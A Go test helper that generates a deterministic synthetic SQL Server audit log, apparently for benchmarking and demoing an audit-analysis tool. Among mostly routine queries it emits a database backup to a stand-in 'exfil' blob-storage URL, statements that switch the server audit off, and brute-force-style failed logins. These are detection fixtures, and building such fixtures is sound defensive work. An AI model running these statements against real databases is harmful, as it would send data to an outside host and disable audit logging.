package xeltest

import (
	"fmt"
	"io"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// SyntheticStart is the event time of the first record of
// SyntheticAuditFile.
var SyntheticStart = time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)

// SyntheticAuditFile writes a deterministic audit file of at least size
// bytes (it stops at the first buffer boundary past size) to w, with
// the default audit layout, 64 KiB buffers and 4 partitions. The mix
// resembles an Azure SQL Database audit with the default groups plus
// backups: ~88% BATCH COMPLETED with 200–2000-character statements
// (whole clauses, as a client sends them), ~2% RPC COMPLETED, ~6%
// successful logins, ~2% failed logins with error XML in
// additional_information, ~1% backups (half of them
// COPY_ONLY to a URL), ~0.5% statements of 4–20 KB split into
// sequence_number parts, and a few audit changes. The same seed gives the
// same bytes, so store/ingest benchmarks and the demo can share it.
func SyntheticAuditFile(w io.Writer, size int64, seed int64) error {
	xw, err := NewWriter(w, &Options{Partitions: 4})
	if err != nil {
		return err
	}
	g := newSynth(seed)
	for xw.Offset() < size {
		if err := xw.WriteAudit(g.next()); err != nil {
			return fmt.Errorf("xeltest: synthetic audit file: %w", err)
		}
	}
	return xw.Close()
}

type synth struct {
	rnd   *rand.Rand
	t     time.Time
	stmts []string
	n     int
}

var (
	synthUsers  = []string{"app_user", "reporting", "etl_svc", "alice@contoso.com", "bob@contoso.com", "sa_admin"}
	synthApps   = []string{"Microsoft SQL Server Management Studio - Query", "Core Microsoft SqlClient Data Provider", "azdata", "Tabular Data Stream", "python-pyodbc"}
	synthTables = []string{"Orders", "Customers", "OrderLines", "Invoices", "Products", "AuditTrail", "Payments"}
	synthCols   = []string{"Id", "CustomerId", "Amount", "CreatedAt", "Status", "Email", "Name", "Total", "Sku", "Quantity"}
)

func newSynth(seed int64) *synth {
	g := &synth{rnd: rand.New(rand.NewPCG(uint64(seed), 0x9E3779B97F4A7C15)), t: SyntheticStart}
	for range 256 {
		g.stmts = append(g.stmts, g.statement(200+g.rnd.IntN(1801)))
	}
	return g
}

// statement builds a plausible T-SQL batch of whole clauses, of n
// characters or a clause more. It is never cut inside a string literal:
// SQL Server refuses such a batch (error 105), and the injection rule
// (EXE-009) rightly flags the record of one.
func (g *synth) statement(n int) string {
	var b strings.Builder
	for b.Len() < n {
		tbl := synthTables[g.rnd.IntN(len(synthTables))]
		switch g.rnd.IntN(4) {
		case 0:
			fmt.Fprintf(&b, "SELECT TOP (%d) o.%s, o.%s FROM dbo.%s AS o WHERE o.%s = @p%d ORDER BY o.%s DESC; ",
				1+g.rnd.IntN(500), synthCols[g.rnd.IntN(len(synthCols))], synthCols[g.rnd.IntN(len(synthCols))], tbl,
				synthCols[g.rnd.IntN(len(synthCols))], g.rnd.IntN(9), synthCols[g.rnd.IntN(len(synthCols))])
		case 1:
			fmt.Fprintf(&b, "UPDATE dbo.%s SET %s = %d WHERE Id = %d; ", tbl, synthCols[g.rnd.IntN(len(synthCols))], g.rnd.IntN(100000), g.rnd.IntN(1000000))
		case 2:
			fmt.Fprintf(&b, "INSERT INTO dbo.%s (%s, %s) VALUES (N'%x', %d); ", tbl, synthCols[g.rnd.IntN(len(synthCols))], synthCols[g.rnd.IntN(len(synthCols))], g.rnd.Uint64(), g.rnd.IntN(1000))
		default:
			fmt.Fprintf(&b, "EXEC dbo.usp_Process%s @batch = %d, @mode = N'full'; ", tbl, g.rnd.IntN(100000))
		}
	}
	return strings.TrimSuffix(b.String(), " ")
}

// prefix returns the whole clauses of stmt within its first n
// characters (at least its first clause).
func prefix(stmt string, n int) string {
	if len(stmt) <= n {
		return stmt
	}
	if i := strings.LastIndex(stmt[:n], "; "); i > 0 {
		return stmt[:i+1]
	}
	if i := strings.Index(stmt, "; "); i > 0 {
		return stmt[:i+1]
	}
	return stmt
}

func (g *synth) next() AuditEvent {
	g.n++
	g.t = g.t.Add(time.Duration(g.rnd.IntN(5000)) * time.Microsecond)
	user := synthUsers[g.rnd.IntN(len(synthUsers))]
	sess := int16(51 + g.rnd.IntN(200))
	e := AuditEvent{
		EventTime:             g.t,
		ActionID:              "BCM",
		ClassType:             "DB",
		Succeeded:             true,
		SessionID:             sess,
		ServerPrincipalID:     int32(1 + g.rnd.IntN(300)),
		DatabasePrincipalID:   int32(1 + g.rnd.IntN(50)),
		ServerPrincipalName:   user,
		DatabasePrincipalName: "dbo",
		ServerPrincipalSID:    []byte{1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, byte(g.rnd.IntN(256)), byte(g.rnd.IntN(256))},
		ServerInstanceName:    "contoso-sql",
		DatabaseName:          "SalesDb",
		SchemaName:            "dbo",
		ClientIP:              fmt.Sprintf("10.%d.%d.%d", g.rnd.IntN(256), g.rnd.IntN(256), 1+g.rnd.IntN(254)),
		ApplicationName:       synthApps[g.rnd.IntN(len(synthApps))],
		HostName:              "vm-" + strconv.Itoa(g.rnd.IntN(40)),
		SequenceGroupID:       g.seqGroup(),
		TransactionID:         g.rnd.Int64N(1 << 40),
		ConnectionID:          g.guid(),
		DurationMilliseconds:  g.rnd.Int64N(2000),
		ClientTLSVersion:      0x800,
		ClientTLSVersionName:  "1.2",
	}
	p := g.rnd.IntN(1000)
	switch {
	case p < 880:
		e.Statement = g.stmts[g.rnd.IntN(len(g.stmts))]
		e.ResponseRows = g.rnd.Int64N(1000)
		e.AffectedRows = g.rnd.Int64N(100)
		e.AdditionalInformation = ""
	case p < 900:
		e.ActionID = "RCM"
		e.Statement = "exec sp_executesql N'" + strings.ReplaceAll(prefix(g.stmts[g.rnd.IntN(len(g.stmts))], 150), "'", "''") + "'"
		e.ObjectName = "sp_executesql"
	case p < 960:
		e.ActionID, e.ClassType = "DBAS", "DB"
		e.AdditionalInformation = "<action_info xmlns=\"http://schemas.microsoft.com/sqlserver/2008/sqlaudit_data\"><pooled_connection>0</pooled_connection><client_options>0x28000020</client_options><client_options1>0x0001f438</client_options1><connect_options>0x00000001</connect_options><packet_size>8000</packet_size><address>10.1.2.3</address><is_dac>0</is_dac></action_info>"
	case p < 980:
		e.ActionID, e.ClassType, e.Succeeded = "DBAF", "DB", false
		e.AdditionalInformation = "<action_info xmlns=\"http://schemas.microsoft.com/sqlserver/2008/sqlaudit_data\"><error_code>18456</error_code><error_state>" + strconv.Itoa(2+g.rnd.IntN(10)) + "</error_state><address>203.0.113." + strconv.Itoa(g.rnd.IntN(255)) + "</address></action_info>"
	case p < 990:
		e.ActionID, e.ClassType = "BA", "DB"
		e.ObjectName = e.DatabaseName
		if g.rnd.IntN(2) == 0 {
			e.Statement = "BACKUP DATABASE [SalesDb] TO URL = N'https://exfil" + strconv.Itoa(g.rnd.IntN(9)) + ".blob.core.windows.net/dump/SalesDb.bak' WITH COPY_ONLY, COMPRESSION"
		} else {
			e.Statement = "BACKUP DATABASE [SalesDb] TO DISK = N'D:\\Backups\\SalesDb_" + strconv.Itoa(g.n) + ".bak' WITH INIT"
		}
	case p < 995:
		e.Statement = g.statement(4000 + g.rnd.IntN(16000))
		e.AffectedRows = g.rnd.Int64N(100000)
	case p < 998:
		e.ActionID, e.ClassType, e.ObjectName = "AL", "A", "SqlDbAuditing_ServerAudit"
		e.Statement = "ALTER SERVER AUDIT [SqlDbAuditing_ServerAudit] WITH (STATE = OFF)"
	default:
		e.ActionID, e.ClassType, e.ObjectName = "AUSC", "A", "SqlDbAuditing_ServerAudit"
		e.AdditionalInformation = "<action_info xmlns=\"http://schemas.microsoft.com/sqlserver/2008/sqlaudit_data\"><session><![CDATA[SqlDbAuditing_ServerAudit]]></session><action>event disabled</action></action_info>"
	}
	return e
}

func (g *synth) guid() GUID {
	var x GUID
	a, b := g.rnd.Uint64(), g.rnd.Uint64()
	for i := range 8 {
		x[i], x[8+i] = byte(a>>(8*i)), byte(b>>(8*i))
	}
	return x
}

func (g *synth) seqGroup() []byte {
	x := g.guid()
	return x[:]
}
